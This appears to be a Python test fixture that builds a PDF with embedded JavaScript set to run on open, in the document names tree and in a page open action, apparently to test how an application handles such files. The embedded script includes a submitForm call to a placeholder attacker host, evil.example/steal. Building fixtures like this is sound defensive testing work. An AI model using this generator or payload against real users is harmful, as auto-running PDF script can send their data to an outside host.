"""A PDF that carries JavaScript: run when the file is opened (/OpenAction), in its document-level
names, and in a page's open action. A PDF reader that runs scripts would show a dialog."""

from __future__ import annotations

from app.pdf import assemble

SCRIPT = b"app.alert(1); this.submitForm('http://evil.example/steal');"


def _string(data: bytes) -> bytes:
    return b"(" + data.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") + b")"


def pdf_with_javascript(text: str = "Lettre avec JavaScript") -> bytes:
    stream = b"BT /F1 12 Tf 72 770 Td " + _string(text.encode("latin-1")) + b" Tj ET"
    action = b"<< /Type /Action /S /JavaScript /JS " + _string(SCRIPT) + b" >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R "
        b"/Names << /JavaScript << /Names [(open) 7 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /AA << /O 8 0 R >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        action,
        action,
        action,
    ]
    return assemble(objects, version=b"1.7")
